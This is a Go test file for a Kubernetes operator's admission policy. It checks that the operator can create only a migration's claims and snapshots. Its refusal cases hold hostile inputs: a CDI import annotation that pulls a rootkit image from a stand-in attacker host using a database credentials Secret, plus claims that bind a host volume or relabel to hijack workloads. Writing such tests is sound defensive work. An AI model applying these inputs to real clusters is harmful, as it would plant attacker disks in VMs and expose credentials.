package operatorrestriction_test

import (
	"context"
	"fmt"
	"testing"

	snapshotv1 "github.com/kubernetes-csi/external-snapshotter/client/v8/apis/volumesnapshot/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/spectrocloud/nodewright/internal/migration"
)

// targetClaim is a claim as a migration creates its target (vmvolumemigration's
// newTargetPVC), in the VM namespace.
func (s *site) targetClaim(name string) *corev1.PersistentVolumeClaim {
	return &corev1.PersistentVolumeClaim{
		ObjectMeta: metav1.ObjectMeta{Namespace: s.vms, Name: name, Labels: migration.Owner(s.migration).Labels()},
		Spec: corev1.PersistentVolumeClaimSpec{
			StorageClassName: ptr.To("linstor-rwx"),
			AccessModes:      []corev1.PersistentVolumeAccessMode{corev1.ReadWriteMany},
			VolumeMode:       ptr.To(corev1.PersistentVolumeBlock),
			Resources:        corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}},
		},
	}
}

// snapshot is a snapshot as a migration takes one (vmvolumemigration's newSnapshot).
func (s *site) snapshot(name, claim string) *snapshotv1.VolumeSnapshot {
	return &snapshotv1.VolumeSnapshot{
		ObjectMeta: metav1.ObjectMeta{Namespace: s.vms, Name: name, Labels: migration.Owner(s.migration).Labels()},
		Spec: snapshotv1.VolumeSnapshotSpec{Source: snapshotv1.VolumeSnapshotSource{PersistentVolumeClaimName: ptr.To(claim)},
			VolumeSnapshotClassName: ptr.To("linstor-snapshots")},
	}
}

// TestOperatorCreatesOnlyTheMigrationsClaimsAndSnapshots: as the operator's ServiceAccount, the
// claims and snapshots a migration makes are admitted (an empty target, a clone of the source,
// a claim of a snapshot, a snapshot of a claim); a claim that would hold a disk of the creator's
// choosing, which it could then swap into a VM (CDI's importer annotations, a volume that exists
// by name or selector, a populator's object, another namespace's data), another label, and a
// snapshot bound to a VolumeSnapshotContent that exists are refused, the message naming the
// field; and with RBAC widened, changing a claim or a snapshot is refused too.
func TestOperatorCreatesOnlyTheMigrationsClaimsAndSnapshots(t *testing.T) {
	s := newSite(t)
	ctx := context.Background()

	t.Run("what a migration creates is admitted", func(t *testing.T) {
		clone := s.targetClaim("move-web-clone")
		clone.Spec.DataSource = &corev1.TypedLocalObjectReference{Kind: "PersistentVolumeClaim", Name: "web-root"}
		view := s.targetClaim("move-web-view")
		view.Spec.DataSource = &corev1.TypedLocalObjectReference{APIGroup: ptr.To(snapshotv1.GroupName), Kind: "VolumeSnapshot", Name: "move-web-before"}
		for _, obj := range []client.Object{s.targetClaim("move-web-target"), clone, view, s.snapshot("move-web-before", "web-root")} {
			if err := s.operator.Create(ctx, obj); err != nil {
				t.Errorf("the operator creates %T %s as a migration does: %v", obj, obj.GetName(), err)
			}
		}
	})

	claims := []struct {
		name   string
		change func(*corev1.PersistentVolumeClaim)
		rule   string
	}{
		{"CDI's importer pulling an image, with a Secret's credentials", func(c *corev1.PersistentVolumeClaim) {
			c.Annotations = map[string]string{"cdi.kubevirt.io/storage.import.endpoint": "https://attacker.example.com/rootkit.qcow2",
				"cdi.kubevirt.io/storage.import.secretName": "db-credentials"}
		}, "is not allowed: a claim or snapshot by the operator has no annotations"},
		{"a volume that exists, by name", func(c *corev1.PersistentVolumeClaim) { c.Spec.VolumeName = "host-root" },
			"spec.volumeName must not be set: a claim by the operator sets only its access modes, size, class, volume mode and data source"},
		{"volumes that exist, by label", func(c *corev1.PersistentVolumeClaim) {
			c.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"type": "local"}}
		}, "spec.selector must not be set"},
		{"a populator's object", func(c *corev1.PersistentVolumeClaim) {
			c.Spec.DataSourceRef = &corev1.TypedObjectReference{APIGroup: ptr.To("cdi.kubevirt.io"), Kind: "VolumeImportSource", Name: "rootkit"}
		}, "cdi.kubevirt.io/VolumeImportSource rootkit"},
		{"a label that selects the claim for another's workload", func(c *corev1.PersistentVolumeClaim) { c.Labels["app"] = "postgres" },
			"metadata.labels[app] is not allowed: a claim or snapshot by the operator carries only the migration's labels"},
	}
	t.Run("a claim of a disk of the creator's choosing is refused", func(t *testing.T) {
		for i, c := range claims {
			pvc := s.targetClaim(fmt.Sprintf("refused-%d", i))
			c.change(pvc)
			wantPolicyRefusal(t, "a claim with "+c.name, s.operator.Create(ctx, pvc), volumesPolicy, c.rule)
		}
		bound := s.snapshot("refused-bound", "web-root")
		bound.Spec.Source = snapshotv1.VolumeSnapshotSource{VolumeSnapshotContentName: ptr.To("another-namespaces-snapshot")}
		wantPolicyRefusal(t, "a snapshot bound to a VolumeSnapshotContent", s.operator.Create(ctx, bound), volumesPolicy,
			"spec.source.volumeSnapshotContentName is not allowed: a snapshot by the operator is taken of a claim")
	})

	t.Run("with RBAC widened, changing a claim or a snapshot is refused", func(t *testing.T) {
		s.grant(t, []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"persistentvolumeclaims"}, Verbs: []string{"update"}},
			{APIGroups: []string{snapshotv1.GroupName}, Resources: []string{"volumesnapshots"}, Verbs: []string{"update"}},
		}, authorizationv1.ResourceAttributes{Namespace: s.vms, Verb: "update", Resource: "persistentvolumeclaims"})
		pvc := &corev1.PersistentVolumeClaim{}
		if err := s.operator.Get(ctx, client.ObjectKey{Namespace: s.vms, Name: "move-web-target"}, pvc); err != nil {
			t.Fatal(err)
		}
		pvc.Annotations = map[string]string{"cdi.kubevirt.io/storage.import.endpoint": "https://attacker.example.com/rootkit.qcow2"}
		wantPolicyRefusal(t, "annotating the target claim", s.operator.Update(ctx, pvc), volumesPolicy,
			"the operator creates and deletes its claims and snapshots; it changes none: refused UPDATE of persistentvolumeclaims")
		vs := &snapshotv1.VolumeSnapshot{}
		if err := s.operator.Get(ctx, client.ObjectKey{Namespace: s.vms, Name: "move-web-before"}, vs); err != nil {
			t.Fatal(err)
		}
		vs.Labels["app"] = "x"
		wantPolicyRefusal(t, "relabelling a snapshot", s.operator.Update(ctx, vs), volumesPolicy, "refused UPDATE of volumesnapshots")
	})
}
